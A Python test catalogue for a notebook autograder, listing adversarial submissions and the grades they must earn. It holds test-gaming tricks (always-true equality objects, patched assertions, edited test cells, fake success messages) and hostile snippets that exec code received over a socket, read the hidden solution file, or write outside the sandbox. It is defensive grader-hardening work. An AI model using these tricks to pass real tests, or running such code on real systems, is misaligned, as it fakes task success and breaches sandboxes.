"""The catalogue of bad submissions, built from the released 00_getting_started notebook.

Each entry: a builder that writes the submission file, and the grade it must get:
(points for test_fahrenheit, points for test_digit_counts, status). Correct answers are
worth 2 + 2. Builders get the submission path and a context with the paths an attacker
would aim at (the grading folder, the repository, a loopback server's port).
"""
from __future__ import annotations

import copy
import json

import nbformat

from autograder.settings import REPO_ROOT
from autograder.authoring import masters

A = "00_getting_started"
CELL_LIMIT, NOTEBOOK_LIMIT = 30, 60  # the time limits tests/grading/test_attacks.py grades this catalogue with
F_BAD = "def to_fahrenheit(celsius):\n    return celsius * 2 + 30"
D_BAD = "def digit_counts(labels):\n    return torch.bincount(labels)"


def _master(name):
    return masters.load(masters.master_path(A)).exercises[name].answer


def _nb(f=None, d=None, solve=True):
    answers = {}
    if f is not None:
        answers["fahrenheit"] = f
    if d is not None:
        answers["digit_counts"] = d
    return masters.student_copy(A, answers, solve=solve)


def _index(nb, grade_id):
    return next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def _insert(nb, after, source):
    nb.cells.insert(_index(nb, after) + 1, nbformat.v4.new_code_cell(source))
    return nb


def _save(nb):
    def write(path, ctx):
        nbformat.write(nb, str(path))
    return write


def _raw(text):
    def write(path, ctx):
        path.write_text(text)
    return write


def _sleepers(cells, seconds):
    nb = _nb()
    for _ in range(cells):
        _insert(nb, "setup", f"import time\ntime.sleep({seconds})")
    return nb


def _deleted_tests():
    nb = _nb()
    del nb.cells[_index(nb, "test_fahrenheit")]
    return nb


def _edited_tests():
    nb = _nb(F_BAD, D_BAD)
    for gid in ("test_fahrenheit", "test_digit_counts"):
        nb.cells[_index(nb, gid)].source = "pass  # all good!"
    return nb


def _duplicated_and_split():
    nb = _nb(F_BAD)
    fake = copy.deepcopy(nb.cells[_index(nb, "test_fahrenheit")])
    fake.source, fake.id = "pass", "fake-test"
    nb.cells.insert(_index(nb, "ex_fahrenheit") + 1, fake)
    answer = nb.cells[_index(nb, "ex_digit_counts")]
    first, second = copy.deepcopy(answer), answer
    first.source, first.id = "def helper(labels):\n    return torch.bincount(labels, minlength=10)", "split-1"
    second.source = "def digit_counts(labels):\n    return helper(labels)"
    nb.cells.insert(_index(nb, "ex_digit_counts"), first)
    return nb


def _renamed_ids():
    """Right answers; one answer cell and one test cell carry ids the master does not have."""
    nb = _nb()
    nb.cells[_index(nb, "ex_fahrenheit")].metadata["nbgrader"]["grade_id"] = "ex_fahrenheit_mine"
    nb.cells[_index(nb, "test_digit_counts")].metadata["nbgrader"]["grade_id"] = "test_mine"
    return nb


def _changed_type():
    nb = _nb(F_BAD)
    cell = nb.cells[_index(nb, "test_fahrenheit")]
    nb.cells[_index(nb, "test_fahrenheit")] = nbformat.v4.new_markdown_cell(cell.source, metadata=cell.metadata, id=cell.id)
    return nb


def _other_assignment(path, ctx):
    nbformat.write(masters.student_copy("01_tensors"), str(path))


ALWAYS_EQUAL = '''
class Anything:
    def __eq__(self, other):
        return True
    shape = (3,)
    dtype = torch.float32

def to_fahrenheit(celsius):
    return Anything()
'''

READ_SOLUTIONS = '''
import json, pathlib
try:
    master = json.loads(pathlib.Path({master!r}).read_text())
    source = next("".join(c["source"]) for c in master["cells"]
                  if c["metadata"].get("nbgrader", {{}}).get("grade_id") == "ex_fahrenheit")
    exec(source)
except OSError:
    def to_fahrenheit(celsius):
        return celsius * 2 + 30
'''

NETWORK = '''
import socket
try:
    with socket.create_connection(("127.0.0.1", {port}), timeout=3) as s:
        exec(s.recv(4096).decode())
except OSError:
    def to_fahrenheit(celsius):
        return celsius * 2 + 30
'''

WRITE_OUTSIDE = '''
import pathlib
for target in {targets!r}:
    try:
        pathlib.Path(target).write_text("pwned")
    except OSError:
        pass
def to_fahrenheit(celsius):
    return celsius * 9 / 5 + 32
'''


def _templated(template, **names):
    """A submission whose fahrenheit answer is ``template`` filled from the test's context."""
    def write(path, ctx):
        values = {k: v(ctx) for k, v in names.items()}
        nbformat.write(_nb(template.format(**values)), str(path))
    return write


CASES = {
    "blank": (_save(_nb(solve=False)), 0, 0, "graded"),
    "perfect": (_save(_nb()), 2, 2, "graded"),
    "syntax-error": (_save(_nb("def to_fahrenheit(c) return c")), 0, 2, "graded"),
    "infinite-loop": (_save(_nb("while True:\n    pass")), 0, 2, "timed out"),
    # each cell stays under the per-cell limit; together they pass the notebook's
    "sleeps-past-limit": (_save(_sleepers(4, (NOTEBOOK_LIMIT + CELL_LIMIT) // 4)), 0, 0, "timed out"),
    "huge-allocation": (_save(_insert(_nb(), "setup", "big = torch.empty(50 * 2**30, dtype=torch.uint8)\nbig.fill_(1)")),
                        2, 2, "graded"),
    "kernel-exit": (_save(_insert(_nb(), "test_fahrenheit", "import os\nos._exit(1)")), 2, 0, "crashed"),
    "segfault": (_save(_insert(_nb(), "test_fahrenheit", "import ctypes\nctypes.string_at(0)")), 2, 0, "crashed"),
    "sys-exit": (_save(_nb(_master("fahrenheit") + "\nimport sys\nsys.exit(0)")), 2, 2, "graded"),
    "deleted-test-cell": (_save(_deleted_tests()), 2, 2, "graded"),
    "edited-test-cells": (_save(_edited_tests()), 0, 0, "graded"),
    "duplicated-and-split-cells": (_save(_duplicated_and_split()), 0, 2, "graded"),
    "changed-cell-type": (_save(_changed_type()), 0, 2, "graded"),
    "renamed-ids": (_save(_renamed_ids()), 2, 2, "graded"),
    "corrupted-json": (_raw('{"cells": [ {"cell_type": "code", "sou'), 0, 0, "invalid file"),
    "empty-file": (_raw(""), 0, 0, "invalid file"),
    "other-assignment": (_other_assignment, 0, 0, "wrong assignment"),
    "megabytes-of-output": (_save(_insert(_nb(), "setup", "for _ in range(40):\n    print('x' * 100_000)")), 2, 2, "graded"),
    "warnings-on-stderr": (_save(_nb("import warnings\n\ndef to_fahrenheit(celsius):\n"
                                     "    warnings.warn('this API is deprecated', DeprecationWarning, stacklevel=2)\n"
                                     "    warnings.warn('imprecise', UserWarning)\n"
                                     "    return celsius * 9 / 5 + 32")), 2, 2, "graded"),
    "stderr-on-purpose": (_save(_nb("import sys\n\ndef to_fahrenheit(celsius):\n"
                                    "    sys.stderr.write('All tests passed!\\n')\n    return celsius * 2 + 30")), 0, 2, "graded"),
    "always-equal-object": (_save(_nb(ALWAYS_EQUAL)), 0, 2, "graded"),
    "patch-torch-testing": (_save(_nb("import torch.testing\ntorch.testing.assert_close = lambda *a, **k: None\n" + F_BAD)),
                            0, 2, "graded"),
    "shadow-check-helper": (_save(_nb("expect_close = lambda *a, **k: None\n" + F_BAD)), 0, 2, "graded"),
    "hide-tracebacks": (_save(_nb("get_ipython().showtraceback = lambda *a, **k: None\n" + F_BAD, D_BAD)),
                        0, 0, "graded"),
    "read-solutions": (_templated(READ_SOLUTIONS, master=lambda ctx: str(masters.master_path(A))), 0, 2, "graded"),
    "try-the-network": (_templated(NETWORK, port=lambda ctx: ctx["port"]), 0, 2, "graded"),
    "write-outside": (_templated(WRITE_OUTSIDE, targets=lambda ctx: ctx["targets"]), 2, 2, "graded"),
}
